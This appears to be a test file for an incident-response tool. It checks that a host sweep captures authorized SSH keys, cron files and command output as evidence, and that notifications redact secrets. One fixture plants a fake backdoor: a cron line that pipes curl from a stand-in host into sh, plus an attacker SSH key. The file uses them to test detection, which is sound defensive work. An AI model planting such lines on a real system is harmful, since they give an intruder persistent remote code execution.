/** sweepHost against a made-up root file system and this machine's commands; notify to a real HTTP endpoint and to the log. */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pino } from 'pino';
import { verifyEvidence } from '../../activities';
import { parseAuthorizedKeys } from '../../activities/sweep';
import { harness, tempDir } from '../helpers/activity';
import { endpoint, type Endpoint } from '../helpers/http';

// A made-up public key line, and its fingerprint as `ssh-keygen -lf` prints it.
const PUBLIC = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGpFiXNwU+fAIyGXX6ujCiPUpaBD9JaVO8nx5dJqGZfn attacker@vps';
const FINGERPRINT = 'SHA256:2yWoSn0IP/wTBnGEcWac0g+G8ynVtoVjZnd1QcmZmD4';

describe('sweepHost (a made-up root; commands of this machine)', () => {
  it('captures authorized keys with their fingerprints, cron files and the command checklist as evidence', async () => {
    const root = tempDir('tourniquet-root-');
    mkdirSync(join(root, 'etc', 'cron.d'), { recursive: true });
    mkdirSync(join(root, 'home', 'agent', '.ssh'), { recursive: true });
    writeFileSync(join(root, 'etc', 'passwd'), 'root:x:0:0:root:/root:/bin/bash\nagent:x:1000:1000::/home/agent:/bin/bash\n');
    writeFileSync(join(root, 'etc', 'cron.d', 'backdoor'), '* * * * * root curl http://x.invalid | sh\n');
    writeFileSync(join(root, 'home', 'agent', '.ssh', 'authorized_keys'), `# mine\nno-pty ${PUBLIC}\n`);
    const h = harness();
    const result = await h.call('sweepHost', 'sweep', { root, skip: ['systemd', 'debsums', 'docker'] });
    const keys = result.data?.authorizedKeys as { type: string; fingerprint: string; comment: string }[];
    assert.deepEqual(
      keys.map((k) => [k.type, k.fingerprint, k.comment]),
      [['ssh-ed25519', FINGERPRINT, 'attacker@vps']],
    );
    assert.deepEqual(result.data?.cronFiles, [join(root, 'etc', 'cron.d', 'backdoor')]);
    const folder = String(result.data?.folder);
    assert.match(readFileSync(join(folder, 'files', root.slice(1), 'etc', 'cron.d', 'backdoor'), 'utf8'), /curl/);
    assert.match(readFileSync(join(folder, 'commands', 'processes.txt'), 'utf8'), /# exit code 0/);
    assert.deepEqual(await verifyEvidence(folder), []);
    const again = await h.call('sweepHost', 'sweep', { root }, { attempt: 2 });
    assert.equal(again.replayed, true);
  });

  it('parses authorized_keys with options and comments', () => {
    const keys = parseAuthorizedKeys('/k', `command="/bin/true",no-pty ${PUBLIC}\n\n# comment\nnot a key\n`);
    assert.equal(keys.length, 1);
    assert.equal(keys[0]!.fingerprint, FINGERPRINT);
  });
});

describe('notify (real HTTP endpoint; the log)', () => {
  let http: Endpoint;
  before(async () => {
    http = await endpoint((url) => (url.startsWith('/hooks/') ? 200 : 404));
  });
  after(() => http.close());

  it('posts Slack-compatible JSON to a webhook URL kept in an env file, which never shows', async () => {
    const dir = tempDir();
    const secretUrl = `${http.base}/hooks/T000/B000/XXXXsecretXXXX`;
    writeFileSync(join(dir, '.env'), `SLACK_WEBHOOK_URL=${secretUrl}\n`);
    const h = harness();
    const result = await h.call('notify', 'update', {
      text: `S1 contained; old key ghp_${'Q'.repeat(36)} rotated`,
      level: 'critical',
      channel: { kind: 'webhook', urlFrom: { envFile: join(dir, '.env'), key: 'SLACK_WEBHOOK_URL' } },
    });
    const body = JSON.parse(http.received.at(-1)!.body) as { text: string };
    assert.match(body.text, /^:rotating_light: \*inc-test\* S1 contained; old key \[redacted github-token sha256:[0-9a-f]{16}\] rotated$/);
    assert.ok(!JSON.stringify(result).includes('XXXXsecretXXXX'));
    await assert.rejects(
      h.call('notify', 'bad', { text: 'x', channel: { kind: 'webhook', url: `${http.base}/nowhere` } }),
      (e: Error & { type?: string }) => e.type === 'VerificationFailed',
    );
  });

  it('writes to the log', async () => {
    const lines: string[] = [];
    const h = harness({ logger: pino({ level: 'info' }, { write: (s: string) => void lines.push(s) }) });
    await h.call('notify', 'update', { text: 'evidence captured, waiting for approval' });
    const line = lines.find((l) => l.includes('"msg":"status update"'))!;
    const entry = JSON.parse(line) as { msg: string; update?: string; level: number; updateLevel?: string };
    assert.equal(entry.update, 'evidence captured, waiting for approval');
    assert.equal(entry.updateLevel, 'info');
    // JSON.parse keeps the last of two equal keys: count them in the line itself.
    assert.equal(line.match(/"level":/g)?.length, 1, `one level key: ${line}`);
    assert.equal(entry.level, 30);
  });
});
